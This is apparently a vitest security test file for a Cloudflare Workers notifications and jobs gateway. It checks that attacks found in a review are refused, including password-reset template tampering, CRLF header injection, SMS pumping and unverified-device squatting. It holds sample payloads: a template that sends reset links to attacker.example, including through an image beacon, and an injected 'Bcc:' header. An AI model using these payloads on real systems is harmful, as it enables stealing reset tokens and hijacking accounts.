// Issue 9, the notifications and jobs part: each attack from the review, performed through the gateway, and refused.
import { env } from 'cloudflare:workers';
import { describe, expect, it } from 'vitest';
import { problemOf } from './helpers.js';
import { bearer, createUser, json, request, type SignedIn, signedInUser, signIn } from './identity-fixtures.js';

/** The notifications Worker's database, bound to the gateway's tests for setup (vitest.config.ts). */
const notificationsDb = () => (env as unknown as { NOTIFICATIONS_DB: D1Database }).NOTIFICATIONS_DB;

const TEMPLATES = '/api/v1/notifications/templates';
const SEND = '/api/v1/notifications/send';
const PUSH = '/api/v1/notifications/push-targets';
const PHONE = '/api/v1/notifications/phone';
const JOBS = '/api/v1/jobs';

/** A user signed in with a role granting exactly `permissions` (as an operator might define one). */
async function holderOf(...permissions: string[]): Promise<SignedIn> {
  const role = `only-${crypto.randomUUID().slice(0, 8)}`;
  await env.IDENTITY_DB.prepare('INSERT INTO roles (name, permissions) VALUES (?, ?)')
    .bind(role, JSON.stringify(permissions))
    .run();
  return signedInUser([role]);
}

/** A signed-in user whose email address is not verified yet: someone who pre-registered another person's address. */
async function unverifiedUser(): Promise<SignedIn> {
  const user = await createUser(['member']);
  await env.IDENTITY_DB.prepare('UPDATE users SET email_verified_at = NULL WHERE id = ?').bind(user.id).run();
  return signIn(user);
}

/** A custom product template, published by an admin. */
async function productTemplate(admin: SignedIn): Promise<string> {
  const key = `attack.t${crypto.randomUUID().slice(0, 8)}`;
  const res = await request(
    TEMPLATES,
    bearer(admin.accessToken, json({ key, channels: ['email'], category: 'product', subject: 'S', text: 'T' })),
  );
  expect(res.status).toBe(201);
  return key;
}

async function eventually<T>(probe: () => Promise<T | null | undefined | false>, timeoutMs = 15_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value) return value;
    if (Date.now() > deadline) throw new Error('condition not met in time');
    await new Promise((r) => setTimeout(r, 100));
  }
}

const LEAK = {
  channels: ['email'],
  category: 'security',
  subject: 'Reset your password',
  text: 'Reset: https://attacker.example/collect?t={{url}}',
  html: '<img src="https://attacker.example/collect?t={{url}}">',
};

describe('security templates (issue 9, item 1)', () => {
  it('refuses a notifications:manage holder who publishes, creates or deletes an identity template', async () => {
    const editor = await holderOf('notifications:manage');
    const put = await request(
      `${TEMPLATES}/identity.reset-password`,
      bearer(editor.accessToken, json(LEAK, { method: 'PUT' })),
    );
    expect(put.status).toBe(403);
    expect((await problemOf(put)).code).toBe('FORBIDDEN');
    const create = await request(TEMPLATES, bearer(editor.accessToken, json({ key: 'identity.reset-link', ...LEAK })));
    expect(create.status).toBe(403);
    const del = await request(`${TEMPLATES}/identity.verify-email`, bearer(editor.accessToken, { method: 'DELETE' }));
    expect(del.status).toBe(403);
    const shown = await request(`${TEMPLATES}/identity.reset-password`, bearer(editor.accessToken));
    const versions = (await shown.json<{ versions: { version: number; text: string }[] }>()).versions;
    expect(versions.map((v) => v.version)).toEqual([1]);
    expect(versions[0]?.text).not.toContain('attacker.example');
  });

  it('refuses a notifications:send holder who sends identity or security templates with a chosen url', async () => {
    const sender = await holderOf('notifications:send');
    const victim = await createUser(['member']);
    for (const template of ['identity.reset-password', 'identity.verify-email', 'notifications.verify-phone']) {
      const res = await request(
        SEND,
        bearer(
          sender.accessToken,
          json({
            to: victim.id,
            template,
            data: { url: 'https://attacker.example/' },
            idempotencyKey: crypto.randomUUID(),
          }),
        ),
      );
      expect(res.status).toBe(403);
      expect((await problemOf(res)).code).toBe('FORBIDDEN');
    }
    const rows = await notificationsDb()
      .prepare('SELECT count(*) AS n FROM deliveries WHERE recipient = ?')
      .bind(victim.id)
      .first<{ n: number }>();
    expect(rows?.n).toBe(0);
  });

  it('keeps a reset mail caught by the local sandbox readable in the delivery log, as a mail catcher', async () => {
    const admin = await signedInUser(['admin']);
    const victim = await createUser(['member']);
    // Identity's own queue message still sends its template: that is how verification and reset links go out.
    const forgot = await request('/auth/password/forgot', json({ email: victim.email }));
    expect(forgot.status).toBeLessThan(300);
    const caught = await eventually(async () => {
      const res = await request(
        `/api/v1/notifications/deliveries?recipient=${victim.id}&template=identity.reset-password`,
        bearer(admin.accessToken),
      );
      const row = (await res.json<{ data: { status: string; provider: string; bodyText: string | null }[] }>()).data[0];
      return row?.status === 'sent' ? row : null;
    });
    // Only because ENVIRONMENT is local here: elsewhere there is no sandbox, and a security body is never shown.
    expect(caught).toMatchObject({ provider: 'sandbox', bodyText: expect.stringContaining('reset-password?token=') });
  });
});

describe('the `to` of a send (issue 9, also)', () => {
  it('answers 400 VALIDATION_FAILED with errors for NUL, control characters and CRLF', async () => {
    const admin = await signedInUser(['admin']);
    const template = await productTemplate(admin);
    for (const to of ['a\u0000b@example.com', '\u0007', 'x@example.com\r\nBcc: y@example.com', 'usr_1 2']) {
      const res = await request(
        SEND,
        bearer(admin.accessToken, json({ to, template, idempotencyKey: crypto.randomUUID() })),
      );
      expect(res.status).toBe(400);
      const problem = await problemOf(res);
      expect(problem).toMatchObject({
        code: 'VALIDATION_FAILED',
        errors: [{ path: 'to', message: expect.any(String) }],
      });
    }
  });
});

describe('devices on an unclaimed account (issue 9, item 3)', () => {
  it('refuses push targets and a phone number before the email address is verified', async () => {
    const squatter = await unverifiedUser();
    const push = await request(PUSH, bearer(squatter.accessToken, json({ kind: 'fcm', token: 'attacker-device' })));
    expect(push.status).toBe(403);
    expect((await problemOf(push)).code).toBe('EMAIL_NOT_VERIFIED');
    const phone = await request(
      PHONE,
      bearer(squatter.accessToken, json({ phone: '+14155550170' }, { method: 'PUT' })),
    );
    expect(phone.status).toBe(403);
    expect((await problemOf(phone)).code).toBe('EMAIL_NOT_VERIFIED');
  });

  it('drops the push targets and phone of a claimed account through the reset-devices job', async () => {
    const owner = await signedInUser(['member']);
    expect(
      (await request(PUSH, bearer(owner.accessToken, json({ kind: 'fcm', token: `dev-${owner.user.id}` })))).status,
    ).toBe(201);
    expect(
      (await request(PHONE, bearer(owner.accessToken, json({ phone: '+14155550171' }, { method: 'PUT' })))).status,
    ).toBe(202);
    // What the jobs Worker does with identity's user.account-claimed event.
    const enqueued = (await env.JOBS.enqueue({
      type: 'notifications.reset-devices',
      payload: { userId: owner.user.id },
      idempotencyKey: `user-event:evt_${crypto.randomUUID()}`,
    })) as { ok: boolean };
    expect(enqueued.ok).toBe(true);
    await eventually(async () => {
      const targets = await (await request(PUSH, bearer(owner.accessToken))).json<{ data: unknown[] }>();
      return targets.data.length === 0;
    });
    expect((await request(PHONE, bearer(owner.accessToken))).status).toBe(404);
  });
});

describe('jobs:write and notification permissions (issue 9, item 4)', () => {
  it('refuses internal jobs over HTTP, even to an admin', async () => {
    const admin = await signedInUser(['admin']);
    const victim = await createUser(['member']);
    for (const job of [
      { type: 'notifications.erase-user', payload: { userId: victim.id } },
      { type: 'notifications.reset-devices', payload: { userId: victim.id } },
      { type: 'notifications.maintenance', payload: {} },
    ]) {
      const res = await request(JOBS, bearer(admin.accessToken, json(job)));
      expect(res.status).toBe(403);
      expect((await problemOf(res)).code).toBe('FORBIDDEN');
    }
  });

  it('refuses a send job without notifications:send, and any send job of a security template', async () => {
    const admin = await signedInUser(['admin']);
    const template = await productTemplate(admin);
    const writer = await holderOf('jobs:read', 'jobs:write');
    const send = (who: SignedIn, tpl: string) =>
      request(
        JOBS,
        bearer(
          who.accessToken,
          json({
            type: 'notifications.send',
            payload: {
              to: 'victim@example.com',
              template: tpl,
              data: { url: 'https://attacker.example/' },
              idempotencyKey: crypto.randomUUID(),
            },
          }),
        ),
      );
    expect((await send(writer, template)).status).toBe(403);
    for (const tpl of ['identity.reset-password', 'notifications.verify-phone']) {
      const res = await send(admin, tpl);
      expect(res.status).toBe(403);
      expect((await problemOf(res)).code).toBe('FORBIDDEN');
    }
    expect((await send(admin, template)).status).toBe(201);
  });
});

describe('SMS pumping (issue 9, item 7)', () => {
  it('refuses a number outside SMS_ALLOWED_COUNTRIES with a 400 naming the field', async () => {
    const user = await signedInUser(['member']);
    const res = await request(PHONE, bearer(user.accessToken, json({ phone: '+88213450000' }, { method: 'PUT' })));
    expect(res.status).toBe(400);
    expect(await problemOf(res)).toMatchObject({ code: 'VALIDATION_FAILED', errors: [{ path: 'phone' }] });
  });

  it('texts one number at most once a minute, whichever accounts ask', async () => {
    const phone = '+14155550172';
    const [a, b] = await Promise.all([signedInUser(['member']), signedInUser(['member'])]);
    const put = (who: SignedIn) => request(PHONE, bearer(who.accessToken, json({ phone }, { method: 'PUT' })));
    expect((await put(a)).status).toBe(202);
    const second = await put(b);
    expect(second.status).toBe(429);
    expect(second.headers.get('retry-after')).not.toBeNull();
    expect((await request(PHONE, bearer(a.accessToken, { method: 'DELETE' }))).status).toBe(204);
    expect((await put(a)).status).toBe(429);
  });
});

describe('stranded deliveries (issue 9, item 9)', () => {
  it('caps push targets per user: the 21st is a 409', async () => {
    const user = await signedInUser(['member']);
    const register = (token: string) => request(PUSH, bearer(user.accessToken, json({ kind: 'fcm', token })));
    for (let i = 0; i < 20; i++) expect((await register(`device-${i}`)).status).toBe(201);
    const over = await register('device-20');
    expect(over.status).toBe(409);
    expect((await problemOf(over)).code).toBe('CONFLICT');
  });

  it('runs the notifications maintenance sweep every five minutes', async () => {
    const admin = await signedInUser(['admin']);
    const res = await request('/api/v1/jobs/schedules', bearer(admin.accessToken));
    const schedules = (await res.json<{ data: { name: string; cron: string }[] }>()).data;
    expect(schedules.find((s) => s.name === 'notifications-maintenance')?.cron).toBe('*/5 * * * *');
  });
});
